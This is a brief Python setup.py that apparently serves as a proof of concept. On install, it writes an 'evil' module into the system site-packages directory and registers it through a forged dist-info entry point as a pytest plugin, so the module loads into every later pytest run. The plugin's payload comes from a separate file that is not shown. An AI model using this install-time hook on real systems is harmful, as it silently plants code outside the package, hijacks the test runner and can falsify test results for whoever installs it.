import pathlib, site, setuptools
folder = pathlib.Path(site.getsitepackages()[0])
(folder / "evil.py").write_text(open("evil_plugin.txt").read())
(folder / "evil-1.dist-info").mkdir(exist_ok=True)
(folder / "evil-1.dist-info/entry_points.txt").write_text("[pytest11]\nevil = evil\n")
(folder / "evil-1.dist-info/METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1\n")
setuptools.setup()
